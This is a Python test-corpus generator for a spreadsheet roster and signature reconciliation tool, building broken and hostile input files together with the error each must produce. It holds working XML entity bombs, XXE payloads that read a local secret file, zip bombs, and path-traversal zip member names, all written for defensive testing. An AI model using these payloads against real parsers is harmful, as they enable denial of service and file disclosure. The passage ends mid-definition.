"""A corpus of broken and hostile input files, made by code, with what the tool must do with each.

Every ``case_*`` function writes one small file (a few KB; the bombs are small too, and
expand enormously when parsed) into the folder it is given and returns a :class:`Case`:
the file, the role it plays in ``reconcile`` (a roster export or signature evidence) and
the outcome the command line must give, an exit code with the one line that explains it,
or a success with the people read and the warnings reported.

:func:`write_corpus` writes them all, with the valid roster and sign sheet that stand
on the other side of ``reconcile``.
"""

from __future__ import annotations

import codecs
import io
import random
import zipfile
from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from xml.sax.saxutils import escape

from asn_attest.testing.samples import _workbook, _workbook_bytes, _xls_bytes, _xlsx_bytes
from tests.tabular.conftest import (
    MAIN,
    PACKAGE,
    RELATIONSHIPS,
    ROOT_RELATIONSHIPS,
    SHEET_TYPE,
    STRINGS_TYPE,
    WORKBOOK_TYPE,
    build_ole2,
    content_types,
    override,
)

ROSTER, SIGNATURES = "roster", "signatures"

#: The people of the valid files: NIP, name, unit.
PEOPLE = (
    ("198503152010011001", "AHMAD FAUZI", "Dinas Kesehatan"),
    ("199001012015032002", "SITI AMINAH", "Dinas Kesehatan"),
    ("198712122011011003", "BUDI SANTOSO", "Dinas Pendidikan"),
)
ROSTER_HEADER = ("NO", "NIP", "NAMA", "UNIT KERJA")
SIGN_HEADER = ("NO", "NIP", "NAMA", "OPD", "TANGGAL", "TANDA TANGAN")

#: The secret an external entity tries to read into a workbook; it must never show.
SECRET = "RAHASIA-3f9c1e"

#: Excel's largest sheet: its last cell.
FAR_CELL = "XFD1048576"


@dataclass(frozen=True)
class Case:
    """One corpus file and what the tool must do with it.

    A failure (``exit_code`` > 0) is one line on stderr, ``error: <file>...``, matching
    ``message`` (a regular expression searched in the line; it names the sheet and row
    where they are known). A success (``exit_code`` 0) reads ``people`` people (roster
    role) or counts ``signed`` people as signed (signatures role), and reports a problem
    matching each of ``warnings`` (searched in lines ``sheet 'S', row N, column 'C':
    severity: message``) and no other problem matching ``absent``.

    ``any_role``: the file is refused before any reader sees it, so it is refused with
    the same words whatever its role. ``xml_attack``: an XML bomb or external entity,
    refused within a second of CPU time, with flat memory. ``env``: settings for the run.
    ``max_rss_mb``: a tighter memory bound than the general one.
    """

    name: str
    path: Path
    role: str
    exit_code: int = 0
    message: str = ""
    people: int | None = None
    signed: int | None = None
    warnings: tuple[str, ...] = ()
    absent: tuple[str, ...] = ()
    any_role: bool = False
    xml_attack: bool = False
    env: Mapping[str, str] = field(default_factory=dict)
    max_rss_mb: int | None = None
    #: what a success must have written into ``-o OUTDIR`` (checked by the test): text
    #: expected in the unsigned workbooks, or the signing date of the status file
    expect_text: tuple[str, ...] = ()
    signed_on: str | None = None

    @property
    def succeeds(self) -> bool:
        return self.exit_code == 0


CaseMaker = Callable[[Path], Case]
CASES: list[CaseMaker] = []


def case(make: CaseMaker) -> CaseMaker:
    """Register a corpus case (in definition order)."""
    CASES.append(make)
    return make


# --- builders -----------------------------------------------------------------------------------


def roster_rows(people: Iterable[tuple[str, str, str]] = PEOPLE) -> list[list[object]]:
    return [list(ROSTER_HEADER)] + [[n, nip, name, unit] for n, (nip, name, unit) in enumerate(people, 1)]


def sign_rows() -> list[list[object]]:
    """AHMAD FAUZI signed; SITI AMINAH is on the sheet with a blank signature cell."""
    (nip1, name1, unit1), (nip2, name2, unit2), _ = PEOPLE
    return [list(SIGN_HEADER), [1, nip1, name1, unit1, "15-01-2024", "1."], [2, nip2, name2, unit2, None, None]]


def openpyxl_bytes(rows: Iterable[Sequence[object]], *, title: str = "Pegawai") -> bytes:
    """``rows`` on the one sheet of a workbook openpyxl writes."""
    return _xlsx_bytes(rows, title=title)


def html_bytes(rows: Iterable[Iterable[object]]) -> bytes:
    body = "".join(
        "<tr>" + "".join(f"<td>{escape('' if v is None else str(v))}</td>" for v in values) + "</tr>" for values in rows
    )
    return f"<html><head><meta charset='utf-8'></head><body><table>{body}</table></body></html>".encode()


def csv_text(rows: Iterable[Iterable[object]], delimiter: str = ",", line_end: str = "\r\n") -> str:
    def field(value: object) -> str:
        text = "" if value is None else str(value)
        if any(ch in text for ch in (delimiter, '"', "\n", "\r")):
            text = '"' + text.replace('"', '""') + '"'
        return text

    return "".join(delimiter.join(field(v) for v in values) + line_end for values in rows)


def cell(ref: str, value: object, *, style: int | None = None) -> str:
    """One <c> element: text inline, numbers as numbers."""
    s = f' s="{style}"' if style is not None else ""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return f'<c r="{ref}"{s}><v>{value}</v></c>'
    return f'<c r="{ref}"{s} t="inlineStr"><is><t xml:space="preserve">{escape(str(value))}</t></is></c>'


def row_xml(number: int, values: Iterable[object], *, attrs: str = "") -> str:
    cells = "".join(cell(f"{chr(65 + i)}{number}", v) for i, v in enumerate(values) if v is not None)
    return f'<row r="{number}"{attrs}>{cells}</row>'


def roster_sheet_data(people: Iterable[tuple[str, str, str]] = PEOPLE) -> str:
    """The roster's rows as the inner XML of <sheetData>."""
    return "".join(row_xml(n, values) for n, values in enumerate(roster_rows(people), 1))


def sheet_xml(sheet_data: str, *, before: str = "", after: str = "", prolog: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
        f'<worksheet xmlns="{MAIN}" xmlns:r="{RELATIONSHIPS}">'
        f"{before}<sheetData>{sheet_data}</sheetData>{after}</worksheet>"
    )


def package(
    sheets: list[tuple[str, str | bytes]],
    *,
    states: Mapping[str, str] | None = None,
    strings: str | bytes | None = None,
    styles: str | None = None,
    date1904: bool = False,
    workbook_prolog: str = "",
    extra: Mapping[str, bytes | str] | None = None,
    content_types_extra: str = "",
    main_type: str = WORKBOOK_TYPE,
) -> dict[str, bytes | str]:
    """The members of a workbook written by hand: ``sheets`` are (name, worksheet XML),
    ``strings`` the whole sharedStrings part, ``styles`` the inner XML of <styleSheet>."""
    states = states or {}
    overrides = "".join(override(f"xl/worksheets/sheet{n}.xml", SHEET_TYPE) for n in range(1, len(sheets) + 1))
    rels = [
        f'<Relationship Id="rId{n}" Type="{RELATIONSHIPS}/worksheet" Target="worksheets/sheet{n}.xml"/>'
        for n in range(1, len(sheets) + 1)
    ]
    if strings is not None:
        rels.append(f'<Relationship Id="rIdS" Type="{RELATIONSHIPS}/sharedStrings" Target="sharedStrings.xml"/>')
        overrides += override("xl/sharedStrings.xml", STRINGS_TYPE)
    if styles is not None:
        rels.append(f'<Relationship Id="rIdT" Type="{RELATIONSHIPS}/styles" Target="styles.xml"/>')
    entries = "".join(
        f'<sheet name="{escape(name)}" sheetId="{n}"'
        + (f' state="{states[name]}"' if name in states else "")
        + f' r:id="rId{n}"/>'
        for n, (name, _) in enumerate(sheets, 1)
    )
    members: dict[str, bytes | str] = {
        "[Content_Types].xml": content_types(overrides + content_types_extra, workbook_type=main_type),
        "_rels/.rels": ROOT_RELATIONSHIPS,
        "xl/workbook.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?>{workbook_prolog}'
            f'<workbook xmlns="{MAIN}" xmlns:r="{RELATIONSHIPS}">'
            + ('<workbookPr date1904="1"/>' if date1904 else "")
            + f"<sheets>{entries}</sheets></workbook>"
        ),
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PACKAGE}">{"".join(rels)}</Relationships>',
    }
    for n, (_, xml) in enumerate(sheets, 1):
        members[f"xl/worksheets/sheet{n}.xml"] = xml
    if strings is not None:
        members["xl/sharedStrings.xml"] = strings
    if styles is not None:
        members["xl/styles.xml"] = f'<styleSheet xmlns="{MAIN}">{styles}</styleSheet>'
    members.update(extra or {})
    return members


def zip_bytes(members: Mapping[str, bytes | str | Callable[[zipfile.ZipFile, str], None]]) -> bytes:
    """A zip of ``members``; a callable member writes itself (streamed, for the big ones)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in members.items():
            if callable(content):
                content(archive, name)
            else:
                archive.writestr(name, content)
    return buffer.getvalue()


def streamed(pieces: Callable[[], Iterable[bytes]]) -> Callable[[zipfile.ZipFile, str], None]:
    """A zip member written piece by piece, so a bomb never sits whole in memory."""

    def write(archive: zipfile.ZipFile, name: str) -> None:
        with archive.open(name, "w", force_zip64=True) as member:
            for piece in pieces():
                member.write(piece)

    return write


def hand_roster(
    extra_rows: str = "", *, name_cell: Callable[[int, str], str] | None = None, sheet_name: str = "Pegawai", **kw
) -> bytes:
    """The valid roster written by hand (inline strings), with ``extra_rows`` appended to
    its sheetData; ``name_cell(row, name)`` replaces the NAMA cell of each person."""
    rows = [row_xml(1, ROSTER_HEADER)]
    for n, (nip, name, unit) in enumerate(PEOPLE, 1):
        number = n + 1
        cells = cell(f"A{number}", n) + cell(f"B{number}", nip)
        cells += name_cell(number, name) if name_cell else cell(f"C{number}", name)
        cells += cell(f"D{number}", unit)
        rows.append(f'<row r="{number}">{cells}</row>')
    return zip_bytes(package([(sheet_name, sheet_xml("".join(rows) + extra_rows, **kw.pop("sheet", {})))], **kw))


def write(folder: Path, name: str, content: bytes | str, encoding: str = "utf-8") -> Path:
    path = folder / name
    path.write_bytes(content if isinstance(content, bytes) else content.encode(encoding))
    return path


def valid_roster(folder: Path) -> Path:
    """The roster the hostile signature files are reconciled against."""
    return write(folder, "roster_valid.xlsx", openpyxl_bytes(roster_rows()))


def valid_sign_sheet(folder: Path) -> Path:
    """The sign sheet the hostile rosters are reconciled against: one of three signed."""
    return write(folder, "ttd_valid.xlsx", openpyxl_bytes(sign_rows(), title="TTD"))


# --- containers ---------------------------------------------------------------------------------

_TRUNCATED = r"truncated or corrupt xlsx \(zip\) file.*send the file again"


@case
def case_empty_file(folder: Path) -> Case:
    path = write(folder, "pegawai_kosong.xlsx", b"")
    return Case("empty file", path, ROSTER, 3, r"empty file \(0 bytes\)", any_role=True)


@case
def case_random_bytes(folder: Path) -> Case:
    path = write(folder, "pegawai_acak.xlsx", random.Random(8).randbytes(4096))
    return Case("random bytes", path, ROSTER, 3, r"not a spreadsheet or CSV file", any_role=True)


@case
def case_truncated_half(folder: Path) -> Case:
    whole = openpyxl_bytes(roster_rows())
    path = write(folder, "pegawai_separuh.xlsx", whole[: len(whole) // 2])
    return Case("xlsx cut in half", path, ROSTER, 3, _TRUNCATED, any_role=True)


@case
def case_truncated_last_bytes(folder: Path) -> Case:
    whole = openpyxl_bytes(roster_rows())
    path = write(folder, "pegawai_ekor.xlsx", whole[:-7])
    return Case("xlsx missing its last bytes", path, ROSTER, 3, _TRUNCATED, any_role=True)


@case
def case_corrupt_deflate(folder: Path) -> Case:
    """Bytes in the middle of the worksheet's compressed data overwritten: the directory is whole."""
    people = [(f"19850315201001{n:04d}", f"PEGAWAI NOMOR {n}", "Dinas Contoh") for n in range(1, 600)]
    data = bytearray(zip_bytes(package([("Pegawai", sheet_xml(roster_sheet_data(people)))])))
    start = data.index(b"xl/worksheets/sheet1.xml") + 200
    data[start : start + 64] = bytes(range(64))
    path = write(folder, "pegawai_rusak.xlsx", bytes(data))
    return Case(
        "corrupt deflate data", path, ROSTER, 3, r"sheet 'Pegawai'.*corrupt xlsx sheet.*open the file in Excel and save it again"
    )


@case
def case_missing_workbook_xml(folder: Path) -> Case:
    """A workbook whose xl/workbook.xml is gone, though [Content_Types].xml still declares it."""
    with zipfile.ZipFile(io.BytesIO(openpyxl_bytes(roster_rows()))) as archive:
        members = {n: archive.read(n) for n in archive.namelist() if n != "xl/workbook.xml"}
    path = write(folder, "pegawai_tanpa_workbook.xlsx", zip_bytes(members))
    return Case(
        "missing xl/workbook.xml", path, ROSTER, 3, r"cannot open the xlsx workbook.*xl/workbook\.xml", any_role=True
    )


@case
def case_zip_without_workbook(folder: Path) -> Case:
    path = write(folder, "arsip.xlsx", zip_bytes({"data/pegawai.csv": csv_text(roster_rows())}))
    return Case("zip without a workbook", path, ROSTER, 3, r"zip archive without xl/workbook\.xml", any_role=True)


@case
def case_password_protected(folder: Path) -> Case:
    """What Excel writes for an encrypted .xlsx: an OLE2 file holding the encrypted package."""
    content = build_ole2({"EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00", "EncryptedPackage": b"\x00" * 64})
    path = write(folder, "pegawai_sandi.xlsx", content)
    return Case("password-protected xlsx", path, ROSTER, 3, r"password-protected workbook", any_role=True)


@case
def case_xls_named_xlsx(folder: Path) -> Case:
    path = write(folder, "pegawai_lama.xlsx", _xls_bytes(roster_rows(), title="Pegawai"))
    return Case("legacy .xls named .xlsx", path, ROSTER, people=3)


@case
def case_html_named_xls(folder: Path) -> Case:
    path = write(folder, "pegawai_html.xls", html_bytes(roster_rows()))
    return Case("HTML table named .xls", path, ROSTER, people=3)


@case
def case_html_named_xlsx(folder: Path) -> Case:
    path = write(folder, "ttd_html.xlsx", html_bytes(sign_rows()))
    return Case("HTML sign sheet named .xlsx", path, SIGNATURES, signed=1)


_SPREADSHEETML = (
    '<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n'
    '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" '
    'xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="Pegawai"><Table>'
    '<Row><Cell><Data ss:Type="String">NIP</Data></Cell><Cell><Data ss:Type="String">NAMA</Data></Cell></Row>'
    "</Table></Worksheet></Workbook>\n"
)


@case
def case_spreadsheetml_named_xls(folder: Path) -> Case:
    path = write(folder, "pegawai_2003.xls", _SPREADSHEETML)
    return Case("SpreadsheetML 2003 named .xls", path, ROSTER, 3, r"Excel 2003 XML spreadsheet.*save as \.xlsx", any_role=True)


@case
def case_spreadsheetml_named_xlsx(folder: Path) -> Case:
    path = write(folder, "pegawai_2003.xlsx", _SPREADSHEETML.encode("utf-16"))
    return Case("SpreadsheetML 2003 in UTF-16 named .xlsx", path, ROSTER, 3, r"Excel 2003 XML spreadsheet", any_role=True)


@case
def case_csv_named_xlsx(folder: Path) -> Case:
    path = write(folder, "pegawai_csv.xlsx", csv_text(roster_rows(), ";"))
    return Case("CSV named .xlsx", path, ROSTER, people=3)


@case
def case_macros_and_odd_members(folder: Path) -> Case:
    """An .xlsm with a VBA project, a zip bomb as an image, and members named to escape
    the folder or to shadow a sheet: none is ever opened, the sheet is read."""
    members = package(
        [("Pegawai", sheet_xml(roster_sheet_data()))],
        main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        content_types_extra='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    )
    members.update({
        "xl/vbaProject.bin": build_ole2({"VBA": b"Attribute VB_Name = \"Module1\"\nSub AutoOpen()\nEnd Sub"}),
        "../../../etc/evil.xml": "<x/>",
        "C:\\Windows\\evil.xml": "<x/>",
        "xl/media/image1.png": streamed(lambda: (b"\0" * (1 << 20) for _ in range(200))),
        "XL/WORKSHEETS/SHEET1.XML.bak": sheet_xml(row_xml(1, ["NAMA"]) + row_xml(2, ["PENYUSUP"])),
    })  # fmt: skip
    path = write(folder, "pegawai_makro.xlsx", zip_bytes(members))
    return Case("macros and odd zip members", path, ROSTER, people=3)


# --- XML attacks --------------------------------------------------------------------------------

_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    + "]>"
)
_REFUSED = r"declares XML entities, which Excel never writes: an XML bomb or an attempt to read files of this computer"
_ENTITIES = r"\.xlsx: the workbook " + _REFUSED
_ENTITIES_IN_SHEET = r"\.xlsx, sheet 'Pegawai': the workbook " + _REFUSED


def _strings_part(prolog: str, text: str) -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<sst xmlns="{MAIN}" count="1" uniqueCount="1">'
        f"<si><t>{text}</t></si></sst>"
    )


def _strings_roster(prolog: str, text: str) -> bytes:
    rows = row_xml(1, ROSTER_HEADER) + '<row r="2"><c r="A2"><v>1</v></c><c r="C2" t="s"><v>0</v></c></row>'
    return zip_bytes(package([("Pegawai", sheet_xml(rows))], strings=_strings_part(prolog, text)))


@case
def case_billion_laughs_in_shared_strings(folder: Path) -> Case:
    path = write(folder, "bom_tawa_strings.xlsx", _strings_roster(_LAUGHS, "&lol9;"))
    return Case("billion laughs in shared strings", path, ROSTER, 3, _ENTITIES, any_role=True, xml_attack=True)


@case
def case_billion_laughs_in_sheet(folder: Path) -> Case:
    rows = row_xml(1, ROSTER_HEADER) + '<row r="2"><c r="C2" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
    path = write(folder, "bom_tawa_sheet.xlsx", zip_bytes(package([("Pegawai", sheet_xml(rows, prolog=_LAUGHS))])))
    return Case("billion laughs in a sheet", path, ROSTER, 3, _ENTITIES_IN_SHEET, any_role=True, xml_attack=True)


_BLOWUP = f'<!DOCTYPE s [<!ENTITY a "{"x" * 50_000}">]>'


@case
def case_quadratic_blowup_in_shared_strings(folder: Path) -> Case:
    path = write(folder, "bom_kuadrat_strings.xlsx", _strings_roster(_BLOWUP, "&a;" * 50_000))
    return Case("quadratic blow-up in shared strings", path, ROSTER, 3, _ENTITIES, any_role=True, xml_attack=True)


@case
def case_quadratic_blowup_in_sheet(folder: Path) -> Case:
    rows = row_xml(1, ROSTER_HEADER) + f'<row r="2"><c r="C2" t="inlineStr"><is><t>{"&a;" * 50_000}</t></is></c></row>'
    path = write(folder, "bom_kuadrat_sheet.xlsx", zip_bytes(package([("Pegawai", sheet_xml(rows, prolog=_BLOWUP))])))
    return Case("quadratic blow-up in a sheet", path, ROSTER, 3, _ENTITIES_IN_SHEET, any_role=True, xml_attack=True)


def _secret_file(folder: Path) -> Path:
    secret = folder / "rahasia.txt"
    secret.write_text(SECRET, encoding="utf-8")
    return secret


@case
def case_external_entity_in_sheet(folder: Path) -> Case:
    prolog = f'<!DOCTYPE w [<!ENTITY xxe SYSTEM "{_secret_file(folder).as_uri()}">]>'
    rows = row_xml(1, ROSTER_HEADER) + '<row r="2"><c r="C2" t="inlineStr"><is><t>&xxe;</t></is></c></row>'
    path = write(folder, "xxe_sheet.xlsx", zip_bytes(package([("Pegawai", sheet_xml(rows, prolog=prolog))])))
    return Case("external entity in a sheet", path, ROSTER, 3, _ENTITIES_IN_SHEET, any_role=True, xml_attack=True)


@case
def case_external_entity_in_workbook(folder: Path) -> Case:
    prolog = f'<!DOCTYPE w [<!ENTITY % xxe SYSTEM "{_secret_file(folder).as_uri()}"> %xxe;]>'
    members = package([("Pegawai", sheet_xml(roster_sheet_data()))], workbook_prolog=prolog)
    path = write(folder, "xxe_workbook.xlsx", zip_bytes(members))
    return Case("external parameter entity in the workbook", path, ROSTER, 3, _ENTITIES, any_role=True, xml_attack=True)


@case
def case_external_entity_in_shared_strings(folder: Path) -> Case:
    prolog = f'<!DOCTYPE s [<!ENTITY xxe SYSTEM "{_secret_file(folder).as_uri()}">]>'
    path = write(folder, "xxe_strings.xlsx", _strings_roster(prolog, "&xxe;"))
    return Case("external entity in shared strings", path, ROSTER, 3, _ENTITIES, any_role=True, xml_attack=True)


# --- size attacks -------------------------------------------------------------------------------


@case
def case_huge_shared_string(folder: Path) -> Case:
    """One shared string of 300 million characters, in a file of a few hundred KB."""
    size = 300 * 1024 * 1024

    def pieces() -> Iterable[bytes]:
        yield f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN}" count="1" uniqueCount="1"><si><t>'.encode()
        block = b"A" * (1 << 20)
        for _ in range(size >> 20):
            yield block
        yield b"</t></si></sst>"

    rows = roster_sheet_data() + '<row r="5"><c r="A5"><v>4</v></c><c r="C5" t="s"><v>0</v></c></row>'
    members = package([("Pegawai", sheet_xml(rows))], strings="")
    members["xl/sharedStrings.xml"] = streamed(pieces)
    path = write(folder, "bom_string.xlsx", zip_bytes(members))
    return Case(
        "one huge shared string", path, ROSTER, 3,
        r"bom_string\.xlsx: xl/sharedStrings\.xml holds a text of more than 1 MiB in one cell or string "
        r"\(Excel holds at most 32,767 characters in a cell\)", any_role=True, max_rss_mb=300,
    )  # fmt: skip


def _million_rows(folder: Path) -> Path:
    """The valid roster, then a million rows that only number themselves (a template
    numbered to the bottom): about 60 MB of XML in a file of a few MB. Written once."""
    path = folder / "sejuta_baris.xlsx"
    if path.exists():
        return path
    head = roster_sheet_data()

    def pieces() -> Iterable[bytes]:
        yield f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN}"><sheetData>{head}'.encode()
        batch: list[str] = []
        for n in range(5, 1_000_005):
            batch.append(f'<row r="{n}"><c r="A{n}"><v>{n - 1}</v></c></row>')
            if len(batch) == 10_000:
                yield "".join(batch).encode()
                batch = []
        yield ("".join(batch) + "</sheetData></worksheet>").encode()

    members = package([("Pegawai", "")])
    members["xl/worksheets/sheet1.xml"] = streamed(pieces)
    return write(folder, path.name, zip_bytes(members))


@case
def case_million_rows(folder: Path) -> Case:
    path = _million_rows(folder)
    return Case("a million numbered rows", path, ROSTER, people=3)


@case
def case_million_rows_beyond_the_limit(folder: Path) -> Case:
    path = _million_rows(folder)
    return Case(
        "a million rows beyond a row limit", path, ROSTER, 3,
        r"sheet 'Pegawai', row 10001: more than 10,000 rows in this sheet; expected at most 10,000; "
        r"raise the limit with ASN_ATTEST_MAX_ROWS=N if this file is genuine$",
        env={"ASN_ATTEST_MAX_ROWS": "10000"},
    )  # fmt: skip


@case
def case_stray_cell_at_xfd1048576(folder: Path) -> Case:
    path = write(folder, "sel_jauh.xlsx", hand_roster(f'<row r="1048576">{cell(FAR_CELL, "x")}</row>'))
    return Case("a stray cell at XFD1048576", path, ROSTER, people=3)


@case
def case_dimension_claims_too_little(folder: Path) -> Case:
    path = write(folder, "dimensi_kecil.xlsx", hand_roster(sheet={"before": '<dimension ref="A1:B2"/>'}))
    return Case("a <dimension> that claims too little", path, ROSTER, people=3)


@case
def case_dimension_claims_far_too_much(folder: Path) -> Case:
    path = write(folder, "dimensi_besar.xlsx", hand_roster(sheet={"before": f'<dimension ref="A1:{FAR_CELL}"/>'}))
    return Case("a <dimension> that claims far too much", path, ROSTER, people=3, max_rss_mb=300)


@case
def case_member_of_markup_bomb(folder: Path) -> Case:
    """256 MB of "<" in a member no reader needs (an image): never parsed."""
    members = package([("Pegawai", sheet_xml(roster_sheet_data()))])
    members["xl/media/image1.png"] = streamed(lambda: (b"<" * (1 << 20) for _ in range(256)))
    path = write(folder, "bom_gambar.xlsx", zip_bytes(members))
    return Case("256 MB of markup in an image member", path, ROSTER, people=3)


@case
def case_row_numbered_beyond_excel(folder: Path) -> Case:
    """openpyxl yields an empty row for every number skipped: up to 4,294,967,295 here."""
    path = write(folder, "baris_jauh.xlsx", hand_roster(f'<row r="4294967295">{cell("C4294967295", "x")}</row>'))
    return Case(
        "a row numbered beyond Excel's last row", path, ROSTER, 3,
        r"sheet 'Pegawai': a row numbered beyond Excel's last row \(1,048,576\)", any_role=True,
    )  # fmt: skip


@case
def case_wide_row(folder: Path) -> Case:
    """One row of two million cells without references, in a file of a few KB."""
    members = package([("Pegawai", "")])
    head = roster_sheet_data()

    def pieces() -> Iterable[bytes]:
        yield f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN}"><sheetData>{head}<row r="5">'.encode()
        for _ in range(20):
            yield b"<c><v>1</v></c>" * 100_000
        yield b"</row></sheetData></worksheet>"

    members["xl/worksheets/sheet1.xml"] = streamed(pieces)
    path = write(folder, "baris_lebar.xlsx", zip_bytes(members))
    return Case(
        "a row of two million cells", path, ROSTER, 3,
        r"sheet 'Pegawai': a row of more than 4 MiB of cells \(Excel has at most 16,384 columns\)",
        any_role=True, max_rss_mb=400,
    )  # fmt: skip


@case
def case_cell_beyond_excel_in_a_narrow_sheet(folder: Path) -> Case:
    """A cell at A1200000 under a table four columns wide: python-calamine's box for so narrow a
    sheet would reach that deep, but both readers refuse it, in the same words."""
    path = write(folder, "sel_di_bawah.xlsx", hand_roster(f'<row r="1200000">{cell("A1200000", "x")}</row>'))
    return Case(
        "a cell below Excel's last row in a narrow sheet", path, ROSTER, 3,
        r"sheet 'Pegawai': a row numbered beyond Excel's last row \(1,048,576\)", any_role=True,
    )  # fmt: skip


@case
def case_row_of_six_large_cells(folder: Path) -> Case:
    """Six cells of 900,000 characters each in one row: no cell passes the text bound, the row
    passes the row bound, whichever reader reads."""
    big = "".join(cell(f"{column}5", column * 900_000) for column in "ABCDEF")
    path = write(folder, "baris_berat.xlsx", hand_roster(f'<row r="5">{big}</row>'))
    return Case(
        "a row of six 900 KB cells", path, ROSTER, 3,
        r"sheet 'Pegawai': a row of more than 4 MiB of cells \(Excel has at most 16,384 columns\)", any_role=True,
    )  # fmt: skip


@case
def case_part_beyond_the_unzipped_limit(folder: Path) -> Case:
    """A sheet of about 4 MB unzipped read with the limit set to 1 MB: refused before it is read."""
    filler = "".join(f'<row r="{n}">{cell(f"A{n}", n)}{cell(f"E{n}", "catatan " * 8)}</row>' for n in range(5, 20_005))
    path = write(folder, "batas_unzip.xlsx", hand_roster(filler))
    return Case(
        "a part beyond ASN_ATTEST_MAX_UNZIPPED_MB", path, ROSTER, 3,
        r"batas_unzip\.xlsx, sheet 'Pegawai': xl/worksheets/sheet1\.xml expands to 4 MB when unzipped, more than "
        r"the limit of 1 MB; raise the limit with ASN_ATTEST_MAX_UNZIPPED_MB=N \(in MB\) if this workbook is genuine$",
        any_role=True, env={"ASN_ATTEST_MAX_UNZIPPED_MB": "1"},
    )  # fmt: skip


@case
def case_row_tags_never_closed(folder: Path) -> Case:
    """200,000 "<row " that never close, after the table: the bound on a row's bytes must find
    the last one without going over the rest again for each (15 s for the first 64 KiB read)."""
    members = package([("Pegawai", "")])
    head = roster_sheet_data()
    members["xl/worksheets/sheet1.xml"] = (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN}"><sheetData>{head}' + "<row " * 200_000
    )
    path = write(folder, "baris_terbuka.xlsx", zip_bytes(members))
    return Case(
        "row tags never closed", path, ROSTER, 3,
        r"sheet 'Pegawai'.*corrupt xlsx sheet.*open the file in Excel and save it again", any_role=True,
    )  # fmt: skip


# --- cells --------------------------------------------------------------------------------------


def _name_formula(cached: bool) -> Callable[[int, str], str]:
    """The NAMA cell of row 3 as a formula, with or without the value Excel saved for it."""

    def make(number: int, name: str) -> str:
        if number != 3:
            return cell(f"C{number}", name)
        value = f"<v>{name}</v>" if cached else ""
        return f'<c r="C3" t="str"><f>UPPER(PROPER("{name.lower()}"))</f>{value}</c>'

    return make


@case
def case_formula_with_cached_value(folder: Path) -> Case:
    path = write(folder, "rumus_tersimpan.xlsx", hand_roster(name_cell=_name_formula(True)))
    return Case("a formula with its cached value", path, ROSTER, people=3, absent=(r"row 3\b",))


@case
def case_formula_without_cached_value(folder: Path) -> Case:
    """Files written by programs that never calculate: the formula's value is unknown."""
    path = write(folder, "rumus_kosong.xlsx", hand_roster(name_cell=_name_formula(False)))
    return Case(
        "a formula without a cached value", path, ROSTER, people=2,
        warnings=(r"^sheet 'Pegawai', row 3, column 'NAMA': error: no name: row skipped$",),
    )  # fmt: skip


@case
def case_error_values(folder: Path) -> Case:
    """#N/A where the NIP was looked up, #REF! where the name was."""

    def name_cell(number: int, name: str) -> str:
        return '<c r="C4" t="e"><f>VLOOKUP(B4,X!A:B,2,0)</f><v>#REF!</v></c>' if number == 4 else cell(f"C{number}", name)

    data = hand_roster(name_cell=name_cell)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        members: dict[str, bytes | str] = {n: archive.read(n) for n in archive.namelist()}
    sheet = members["xl/worksheets/sheet1.xml"]
    assert isinstance(sheet, bytes)
    members["xl/worksheets/sheet1.xml"] = sheet.replace(
        cell("B2", PEOPLE[0][0]).encode(), b'<c r="B2" t="e"><v>#N/A</v></c>'
    )
    path = write(folder, "nilai_galat.xlsx", zip_bytes(members))
    return Case(
        "error values", path, ROSTER, people=2,
        warnings=(
            r"^sheet 'Pegawai', row 2, column 'NIP': error: Excel error value '#N/A' \(a formula that failed\): read as empty$",
            r"^sheet 'Pegawai', row 4, column 'NAMA': error: Excel error value '#REF!' \(a formula that failed\): read as empty$",
            r"^sheet 'Pegawai', row 4, column 'NAMA': error: no name: row skipped$",
        ),
    )  # fmt: skip


def _dated_sign_sheet(*, date1904: bool, styled: bool) -> bytes:
    """The sign sheet with its signing date as an Excel serial (2024-01-15)."""
    serial = 45306 - (1462 if date1904 else 0)
    styles = '<cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14" applyNumberFormat="1"/></cellXfs>'
    (nip1, name1, unit1), (nip2, name2, unit2), _ = PEOPLE
    rows = row_xml(1, SIGN_HEADER)
    rows += (
        f'<row r="2">{cell("A2", 1)}{cell("B2", nip1)}{cell("C2", name1)}{cell("D2", unit1)}'
        f'{cell("E2", serial, style=1 if styled else None)}{cell("F2", "ttd")}</row>'
    )
    rows += row_xml(3, [2, nip2, name2, unit2])
    return zip_bytes(package([("TTD", sheet_xml(rows))], styles=styles, date1904=date1904))


@case
def case_date_as_serial_number(folder: Path) -> Case:
    path = write(folder, "ttd_serial.xlsx", _dated_sign_sheet(date1904=False, styled=False))
    return Case("a date as a serial number", path, SIGNATURES, signed=1, signed_on="2024-01-15")


@case
def case_date_in_a_1904_workbook(folder: Path) -> Case:
    path = write(folder, "ttd_1904.xlsx", _dated_sign_sheet(date1904=True, styled=True))
    return Case("a date in a 1904-based workbook", path, SIGNATURES, signed=1, signed_on="2024-01-15")


def _csv_roster(folder: Path, name: str, people: Iterable[tuple[str, str, str]], **kw: str) -> Path:
    return write(folder, name, csv_text(roster_rows(people), **kw))


@case
def case_control_characters_and_nul(folder: Path) -> Case:
    """Characters Excel cannot store in a name, as copied from old systems."""
